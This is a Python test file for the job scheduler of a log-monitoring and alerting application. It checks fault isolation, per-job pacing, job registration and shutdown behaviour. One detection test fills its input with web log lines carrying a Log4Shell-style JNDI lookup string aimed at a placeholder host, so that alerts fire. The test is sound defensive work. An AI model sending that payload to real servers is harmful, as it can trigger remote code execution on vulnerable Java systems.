"""The jobs process: every job at its own pace, one fault never stopping the others, a slow server stopping nobody."""

import threading
import time
from types import ModuleType

import pytest

from dekhang.apps.alerts.models import Alert
from dekhang.cli import jobs as loop
from dekhang.cli.jobs import Job, run_due
from dekhang.pipeline.spool import Batch, SpoolWriter
from dekhang.pipeline.stores import heartbeat
from dekhang.pipeline.worker.loop import Worker
from tests.factories.sources import MORNING, LogSourceFactory
from tests.installation import PROJECT


def test_a_job_that_fails_is_counted_and_the_others_go_on(caplog):
    done = []
    jobs = [Job("xau", 0, lambda: 1 / 0), Job("tot", 0, lambda: done.append(1))]
    for _ in range(3):
        run_due(jobs, time.monotonic() + 1)
    assert [job.faults for job in jobs] == [3, 0]
    assert len(done) == 3
    assert "job xau failed (3 times so far)" in caplog.text


def test_a_job_runs_at_its_own_pace():
    done = []
    jobs = [Job("cham", 100, lambda: done.append("cham")), Job("nhanh", 0, lambda: done.append("nhanh"))]
    for _ in range(3):
        run_due(jobs, time.monotonic())
    assert done == ["cham", "nhanh", "nhanh", "nhanh"]


def test_every_app_with_a_clock_is_on_the_list():
    """A room whose jobs.py nobody calls would stand still without a word."""
    called = {module.__name__ for module in vars(loop).values() if isinstance(module, ModuleType)}
    with_clock = {f"dekhang.apps.{path.parent.name}.jobs" for path in (PROJECT / "dekhang" / "apps").glob("*/jobs.py")}
    assert len(with_clock) > 8
    assert with_clock - called == set()
    names = [job.name for job in loop.all_jobs()]
    assert len(names) == len(set(names))
    assert [job.name for job in loop.of_this_host()] == ["hunts"]
    assert {"rosters", "messages", "lake", "catalog"} <= {job.name for job in loop.all_jobs() if job.apart}


@pytest.mark.django_db
def test_a_burst_of_detections_is_read_in_one_turn(data, monkeypatch):
    monkeypatch.setattr(loop, "CATCHING_UP_SECONDS", 60.0)  # what a busy machine reads in a second is not the claim
    source = LogSourceFactory(kind="web")
    lines = [
        b'192.0.2.7 - - [10/Dec/2019:02:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "${jndi:ldap://192.0.2.9/a}"'
    ] * 1_200
    with SpoolWriter(data / "spool", 1) as spool:
        now_ms = int(MORNING.timestamp() * 1000)
        spool.append(Batch(source.pk, source.unit_id, "web", "tail", now_ms, "192.0.2.250", lines))
    worker = Worker(data, [PROJECT / "rules"])
    worker.start()
    worker.drain()
    found = worker.total_detections
    worker.close()
    assert found > loop.DETECTIONS_AT_ONCE
    loop.pull_what_waits()
    assert sum(Alert.objects.values_list("detection_count", flat=True)) == found


@pytest.mark.django_db(transaction=True)
def test_a_mail_server_that_does_not_answer_delays_no_alert_and_not_the_stop(monkeypatch, tmp_path):
    stuck, alerts, handlers = threading.Event(), [], {}
    jobs = [
        Job("messages", 0, lambda: stuck.wait(30), apart=True),
        Job("detections", 0.05, lambda: alerts.append(time.monotonic())),
    ]
    monkeypatch.setattr(loop, "all_jobs", lambda: jobs)
    monkeypatch.setattr(loop.signal, "signal", lambda number, handler: handlers.setdefault(number, handler))

    def stop_after_three() -> None:
        deadline = time.monotonic() + 20
        while len(alerts) < 3 and time.monotonic() < deadline:
            time.sleep(0.02)
        assert heartbeat.read(tmp_path)["jobs"]["ready"]
        next(iter(handlers.values()))()

    helper = threading.Thread(target=stop_after_three)
    helper.start()
    start = time.monotonic()
    assert loop.run_until_stopped(tmp_path) == 0
    helper.join()
    stuck.set()
    assert len(alerts) >= 3
    assert time.monotonic() - start < 20
    assert "jobs" not in heartbeat.read(tmp_path)
